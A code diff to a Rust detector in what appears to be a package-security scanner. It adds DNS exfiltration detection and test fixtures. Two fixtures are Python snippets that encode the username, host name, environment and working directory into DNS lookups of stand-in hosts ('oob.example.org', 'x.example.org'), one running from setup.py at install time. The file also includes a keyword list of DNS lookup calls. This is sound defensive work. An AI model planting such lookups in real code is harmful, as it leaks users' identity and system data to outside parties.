@@ -8,6 +8,9 @@
 //! medium (a library integration) unless the file also harvests credentials or
 //! system facts.
 //!
+//! Also reports DNS exfiltration (see [`super::dns_exfil`]): a lookup of a name
+//! built from harvested user/host/environment data, High (install time Critical).
+//!
 //! Matches the endpoint text in code, strings and non-Python files (it may be
 //! concatenated, so no scheme is required); Python comments/docstrings, tests and
 //! docs are skipped.
@@ -102,6 +105,10 @@ impl Detector for ExfilEndpoint {
             "gist.githubusercontent",
             "/-/raw/",
             "/raw/",
+            // DNS exfiltration (`super::dns_exfil::LITERALS`)
+            "gethostbyname",
+            "getaddrinfo",
+            "dns.resolver",
         ]
     }
     fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
@@ -112,6 +119,9 @@ impl Detector for ExfilEndpoint {
         }
         let src = Source::new(file);
         let install = file.role == FileRole::InstallTime;
+        if let Some((off, ind, sev)) = super::dns_exfil::find(file, &src) {
+            hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, off, ind) });
+        }
         let harvest = std::cell::OnceCell::new();
         let harvests = || *harvest.get_or_init(|| HARVEST.is_match(file.text));
         let mut n = 0;
@@ -183,6 +193,42 @@ mod tests {
                     InstallTime,
                     "\nu = 'https://api.telegram.org/bot' + T\n",
                     Some((2, "api.telegram.org/bot", Critical)),
+                ),
+                (
+                    "dns exfiltration of user and host",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import socket, getpass, platform, base64\nd = base64.b32encode((getpass.getuser() + '@' + platform.node()).encode()).decode().strip('=')\nsocket.gethostbyname(d + '.oob.example.org')\n",
+                    Some((3, "DNS lookup of harvested data (socket.gethostbyname)", High)),
+                ),
+                (
+                    "dns beacon with env in setup.py",
+                    "setup.py",
+                    InstallTime,
+                    "import socket, os\nsocket.getaddrinfo(os.environ['USER'] + '.' + os.getcwd().replace('/', '-') + '.x.example.org', 80)\n",
+                    Some((2, "DNS lookup of harvested data (socket.getaddrinfo)", Critical)),
+                ),
+                (
+                    "own address from own host name",
+                    "pkg/net.py",
+                    Runtime,
+                    "import socket\nip = socket.gethostbyname(socket.gethostname())\n",
+                    None,
+                ),
+                (
+                    "resolve the local host name with a port",
+                    "pkg/net.py",
+                    Runtime,
+                    "host = socket.gethostname()\ninfos = socket.getaddrinfo(host, port)\n",
+                    None,
+                ),
+                ("localhost lookup", "pkg/net.py", Runtime, "socket.gethostbyname(\"localhost\")\n", None),
+                (
+                    "lookup of a configured host next to an env read",
+                    "pkg/net.py",
+                    Runtime,
+                    "home = os.environ.get('HOME')\naddr = socket.gethostbyname(cfg.host + '.svc.example.org')\n",
+                    None,
                 ),
                 (
                     "paste site",
